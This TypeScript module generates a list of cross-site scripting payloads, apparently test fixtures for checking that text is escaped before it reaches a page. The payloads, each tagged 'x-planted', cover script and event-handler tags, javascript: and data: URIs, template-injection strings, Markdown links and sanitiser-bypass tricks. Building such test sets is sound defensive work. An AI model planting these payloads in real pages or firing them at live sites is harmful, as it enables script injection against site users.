/**
 * The marker in every payload, as an element or attribute of that name: the page has neither unless it was created
 * from one.
 */
export const marker = 'x-planted';

const act = "alert('x-planted')";

/** What runs, or changes the page, if it is taken for HTML. */
export const elements = [
  `<script x-planted>${act}</script>`,
  `<script x-planted src="data:text/javascript,${act}"></script>`,
  `<img x-planted src=nowhere: onerror="${act}">`,
  `<img/x-planted/src=nowhere:/onerror=${act}>`,
  `<svg x-planted onload="${act}"><circle r=9></svg>`,
  `<svg x-planted><animate attributeName=x dur=1s onbegin="${act}"></svg>`,
  `<svg x-planted><a href="javascript:${act}"><text y=9>shown</text></a></svg>`,
  `<math x-planted><mtext><mglyph><style><img x-planted onerror="${act}" src></style></mglyph></mtext></math>`,
  `<iframe x-planted srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe x-planted src="javascript:parent.${act}"></iframe>`,
  `<a x-planted href="javascript:${act}">shown</a>`,
  `<details x-planted open ontoggle="${act}"><summary>shown</summary></details>`,
  `<input x-planted autofocus onfocus="${act}">`,
  `<form x-planted action="javascript:${act}"><button>shown</button></form>`,
  `<button x-planted formaction="javascript:${act}" form=none>shown</button>`,
  `<video x-planted><source onerror="${act}"></video>`,
  `<object x-planted data="data:text/html,${act}"></object>`,
  `<style x-planted>* { animation: spin 1s }</style><b x-planted onanimationstart="${act}">shown</b>`,
  '<link x-planted rel=stylesheet href="data:text/css,*{display:none}">',
  '<meta x-planted http-equiv=refresh content="0;url=about:blank">',
  '<base x-planted href="http://127.0.0.1:9/">',
  `<x-planted tabindex=0 onpointerover="${act}">shown</x-planted>`,
];

/** What ends the context of a text: a value, an element, a comment, a script. */
const ends = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</template>',
  '-->',
  ']]>',
];

const writings: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<(\/?)([a-z-]+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
];

/** What runs without an element of its own: as an attribute's value, an address, in a template, as Markdown. */
const others = [
  `" x-planted onpointerover="${act}" y="`,
  `' x-planted onfocus='${act}' autofocus y='`,
  `javascript:${act}`,
  `JaVaScRiPt:${act}//x-planted`,
  ` javascript:${act}`,
  `data:text/html,<x-planted><script>${act}</script>`,
  `data:text/html;base64,${Buffer.from(`<script x-planted>${act}</script>`).toString('base64')}`,
  `vbscript:${act}`,
  `{{constructor.constructor("${act}")()}}`,
  `\${${act}}`,
  `#{${act}}`,
  `<%= ${act} %>`,
  `%{x-planted} |||| <b x-planted>`,
  `[x-planted](javascript:${act})`,
  `![x-planted](nowhere:"onerror="${act})`,
  `[x-planted]: javascript:${act} "shown"`,
  `<javascript:${act}>`,
  `\`\`\`<x-planted>\`\`\``,
  encodeURIComponent(`<script x-planted>${act}</script>`),
  `\\u003cscript x-planted\\u003e${act}\\u003c/script\\u003e`,
  `{"dangerouslySetInnerHTML":{"__html":"<b x-planted>"}}`,
  `<scr<script>ipt x-planted>${act}</scr</script>ipt>`,
  `<<script x-planted>${act}//<</script>`,
  `<!--><img x-planted src=nowhere: onerror="${act}">-->`,
  `<noscript><p title="</noscript><img x-planted src=nowhere: onerror=${act}>">`,
  `<svg></p><style><a id="</style><img x-planted src=nowhere: onerror=${act}>">`,
  `<select><template><img x-planted src=nowhere: onerror=${act}></template></select>`,
];

/** Each of them is a different way from a text into a page. */
export const payloads: readonly string[] = [
  ...writings.flatMap((write) => ends.flatMap((end) => elements.map((element) => end + write(element)))),
  ...others,
];
